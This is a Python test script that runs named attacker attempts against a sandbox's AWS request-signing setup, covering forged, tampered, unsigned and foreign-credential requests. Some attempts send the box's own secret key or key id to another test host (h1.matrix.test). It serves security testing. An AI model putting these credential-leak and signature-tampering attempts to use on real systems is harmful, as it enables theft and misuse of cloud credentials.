#!/usr/bin/python3
"""Inside the box: what an attacker would try with the keys that are there, and the same done right.

usage: attempts.py NAME     prints the status and the first words of the answer
"""

import os
import sys
import urllib.parse

import botocore.auth
import botocore.awsrequest
import botocore.credentials
import generated

S3 = generated.HOSTS["s3"]
ATTACKERS = botocore.credentials.Credentials("AKIAATTACKERATTACKER", "attackers/secret+key/attackers+secret000")


def own():
    return generated.credentials()


def header(credentials, method="GET", target="/key", service="s3", host=S3, body=b"", change=None, fields=None):
    kind = botocore.auth.S3SigV4Auth if service == "s3" else botocore.auth.SigV4Auth
    request = botocore.awsrequest.AWSRequest(method=method, url=f"https://{host}{target}", data=body, headers=fields or {})
    kind(credentials, service, generated.REGION).add_auth(request)
    fields = dict(request.headers.items())
    if change:
        target, fields, body = change(target, fields, body)
    return generated.send_1(host, method, target, fields, body)


def presigned(credentials, **changed):
    request = botocore.awsrequest.AWSRequest(method="GET", url=f"https://{S3}/key")
    botocore.auth.S3SigV4QueryAuth(credentials, "s3", generated.REGION, expires=300).add_auth(request)
    parts = urllib.parse.urlsplit(request.url)
    query = urllib.parse.parse_qsl(parts.query)
    query = [(name, changed.get(name.replace("-", "_"), value)) for name, value in query]
    return generated.send_1(S3, "GET", parts.path + "?" + urllib.parse.urlencode(query), {}, b"")


def with_secret(secret):
    return botocore.credentials.Credentials(own().access_key, secret, own().token)


def spoilt_chunk(_target, _fields, _body):
    on_wire, fields, data = generated.signed("s3", "chunks", "PUT", "/key", {}, b"a" * 100000)
    return on_wire, fields, data.replace(b"aaaa", b"aaab", 1)


def renamed(new):
    return lambda target, fields, body: (new, fields, body)


def added(name, value):
    return lambda target, fields, body: (target, {**fields, name: value}, body)


ATTEMPTS = {
    "control": lambda: header(own()),
    "control presigned": lambda: presigned(own()),
    "foreign": lambda: header(ATTACKERS),
    "foreign presigned": lambda: presigned(ATTACKERS),
    "key id alone": lambda: header(with_secret("guessed/secret+key/guessed+secret+key000")),
    "another path": lambda: header(own(), change=renamed("/other")),
    "another body": lambda: header(own(), "PUT", body=b"x", change=lambda t, f, b: (t, f, b"y")),
    "spoilt chunk": lambda: header(own(), "PUT", change=spoilt_chunk),
    "another expiry": lambda: presigned(own(), X_Amz_Expires="604800"),
    "foreign token": lambda: header(own(), change=added("X-Amz-Security-Token", "attackers-token")),
    "another service's host": lambda: header(own(), service="bedrock", host=S3, target="/model/x/invoke"),
    "version 2": lambda: generated.send_1(S3, "GET", "/key", {"Authorization": f"AWS {own().access_key}:c2lnbmF0dXJl"}, b""),
    "secret in a field": lambda: header(own(), fields={"x-amz-meta-note": own().secret_key}),
    "key id in metadata": lambda: header(own(), fields={"x-amz-meta-note": own().access_key}),
    "another host": lambda: header(own(), host="h1.matrix.test", target="/echo"),
    "key id in a query elsewhere": lambda: generated.send_1("h1.matrix.test", "GET", "/echo?k=" + own().access_key, {}, b""),
    "secret elsewhere": lambda: generated.send_1("h1.matrix.test", "GET", "/echo", {"X-A": own().secret_key}, b""),
    "not signed": lambda: generated.send_1(S3, "GET", "/key", {}, b""),
    "bearer": lambda: generated.send_1(S3, "GET", "/key", {"Authorization": "Bearer attackers-api-key-000"}, b""),
    "sts": lambda: header(own(), "POST", "/", "sts", "sts.eu-west-1.amazonaws.com", b"Action=GetCallerIdentity&Version=2011-06-15",
                          fields={"Content-Type": "application/x-www-form-urlencoded"}),
    "session": lambda: header(own(), target="/?session"),
}

if __name__ == "__main__":
    status, text = ATTEMPTS[sys.argv[1]]()
    print(status, " ".join(text.split())[:600], "token" if os.environ.get("AWS_SESSION_TOKEN") else "")
